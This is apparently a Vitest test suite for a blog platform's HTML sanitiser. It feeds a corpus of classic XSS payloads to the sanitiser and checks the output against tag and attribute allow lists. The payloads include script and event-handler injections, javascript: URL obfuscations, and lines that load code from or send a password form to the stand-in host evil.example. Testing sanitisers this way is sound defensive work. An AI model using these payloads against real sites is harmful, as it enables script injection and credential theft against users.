import { describe, expect, it } from 'vitest'
import { sanitizeStaffHtml, toPlainText } from '@server/content/sanitize-html'
import { sanitizePostText } from '@server/modules/posts/write'

/** Classic XSS payloads: script tags, event handlers, dangerous URLs, parser tricks. */
const XSS_CORPUS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img """><script>alert(1)</script>">',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JAVASCRIPT:alert(1)">click</a>',
  '<a href="  javascript:alert(1)">click</a>',
  '<a href="jav&#x09;ascript:alert(1)">click</a>',
  '<a href="jav\tascript:alert(1)">click</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">click</a>',
  '<a href="vbscript:msgbox(1)">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  '<a href="//evil.example">protocol-relative</a>',
  '<a href="https://example.com" onclick="alert(1)" onmouseover="alert(2)">hover</a>',
  '<p style="background:url(javascript:alert(1))">styled</p>',
  '<div style="width: expression(alert(1))">ie</div>',
  '<style>@import "//evil.example/x.css";</style>',
  '<link rel="stylesheet" href="//evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="//evil.example/">',
  '<form action="//evil.example"><input name="password"><button>Send</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>scroll</marquee>',
  '<p><a href="https://example.com" target="_self" rel="opener">opener</a></p>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--<img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '"><script>alert(1)</script>',
  '<p title="&quot; onmouseover=&quot;alert(1)">quoted</p>',
  '<table background="javascript:alert(1)"><tr><td onclick=alert(1)>cell</td></tr></table>',
  '<img src="https://cdn.example/x.png" srcset="javascript:alert(1) 1x">',
  '<a href="https://example.com" formaction="javascript:alert(1)">x</a>',
  '<isindex action=javascript:alert(1) type=image>',
  '<xss id=x tabindex=1 onfocusin=alert(1)></xss>',
]

const ALLOWED_TAGS = new Set([
  'p',
  'br',
  'hr',
  'h2',
  'h3',
  'h4',
  'blockquote',
  'pre',
  'code',
  'strong',
  'b',
  'em',
  'i',
  'u',
  's',
  'small',
  'sub',
  'sup',
  'mark',
  'ul',
  'ol',
  'li',
  'dl',
  'dt',
  'dd',
  'a',
  'img',
  'figure',
  'figcaption',
  'table',
  'caption',
  'thead',
  'tbody',
  'tfoot',
  'tr',
  'th',
  'td',
])
const ALLOWED_ATTRIBUTES = new Set([
  'href',
  'title',
  'target',
  'rel',
  'src',
  'alt',
  'width',
  'height',
  'loading',
  'colspan',
  'rowspan',
  'scope',
  'start',
])

/**
 * Every tag and attribute of the sanitiser's output. Its serialiser always double-quotes
 * attribute values and escapes quotes and angle brackets inside them, so a scanner suffices.
 */
function markupOf(html: string) {
  const tags = [...html.matchAll(/<\/?([a-zA-Z][a-zA-Z0-9]*)((?:\s+[^\s=>/]+(?:="[^"]*")?)*)\s*\/?>/g)]
  // Nothing that looks like a tag may be left outside what the scanner understood.
  expect(html.replace(/<\/?([a-zA-Z][a-zA-Z0-9]*)((?:\s+[^\s=>/]+(?:="[^"]*")?)*)\s*\/?>/g, '')).not.toMatch(/<[a-zA-Z!/?]/)
  return tags.map(([, tag, attributeText]) => ({
    tag: tag.toLowerCase(),
    attributes: [...attributeText.matchAll(/([^\s=>/]+)(?:="([^"]*)")?/g)].map(([, name, value]) => ({
      name: name.toLowerCase(),
      value: value ?? '',
    })),
  }))
}

describe('post HTML sanitiser', () => {
  it.each(XSS_CORPUS)('leaves nothing executable in %s', (payload) => {
    const clean = sanitizeStaffHtml(payload)
    expect(clean).not.toMatch(/<\s*(script|iframe|object|embed|style|link|meta|base|form|input|svg|math|template|body)/i)
    expect(clean).not.toMatch(/\son\w+\s*=/i)
    expect(clean).not.toMatch(/javascript:|vbscript:|data:/i)
    for (const element of markupOf(clean)) {
      expect(ALLOWED_TAGS, element.tag).toContain(element.tag)
      for (const attribute of element.attributes) {
        expect(ALLOWED_ATTRIBUTES, attribute.name).toContain(attribute.name)
        if (attribute.name === 'href' || attribute.name === 'src')
          expect(attribute.value).toMatch(/^(https?:|mailto:|tel:|\/(?!\/)|[^:]*$)/i)
      }
    }
  })

  it.each(XSS_CORPUS)('reduces %s to inert text for descriptions', (payload) => {
    const text = toPlainText(payload)
    expect(text).not.toMatch(/<\s*[a-z!]/i)
  })

  it('keeps the writing staff need: headings, lists, tables, links and images', () => {
    const html =
      '<h2>Title</h2><p>Text with <strong>bold</strong>, <em>italic</em> and <a href="/blogs/2">a post</a>.</p>' +
      '<ul><li>one</li></ul><table><tbody><tr><td colspan="2">cell</td></tr></tbody></table>' +
      '<figure><img src="https://cdn.example/a.png" alt="A"><figcaption>Caption</figcaption></figure>'
    const clean = sanitizeStaffHtml(html)
    expect(clean).toContain('<h2>Title</h2>')
    expect(clean).toContain('<strong>bold</strong>')
    expect(clean).toContain('<a href="/blogs/2">a post</a>')
    expect(clean).toContain('<td colspan="2">cell</td>')
    expect(clean).toContain('<img src="https://cdn.example/a.png" alt="A" loading="lazy" />')
    expect(clean).toContain('<figcaption>Caption</figcaption>')
  })

  it('opens external links apart from the app, without a window reference', () => {
    expect(sanitizeStaffHtml('<a href="https://example.com" target="_self" rel="opener">x</a>')).toBe(
      '<a href="https://example.com" target="_blank" rel="noopener noreferrer nofollow">x</a>',
    )
    expect(sanitizeStaffHtml('<a href="tel:19002149">call</a>')).toBe('<a href="tel:19002149">call</a>')
  })

  it('stores descriptions and titles as plain text, un-escaped once', () => {
    expect(toPlainText('<p>Tom &amp; Jerry</p><p>1 &lt; 2 <b>bold</b></p>')).toBe('Tom & Jerry 1 < 2 bold')
    expect(toPlainText('Plain & simple')).toBe('Plain & simple')
    expect(
      sanitizePostText({ title: '<i>A</i> & B', description: '<script>x()</script>Short', content: '<p onclick="x()">Body</p>' }),
    ).toEqual({
      title: 'A & B',
      description: 'Short',
      content: '<p>Body</p>',
    })
  })
})
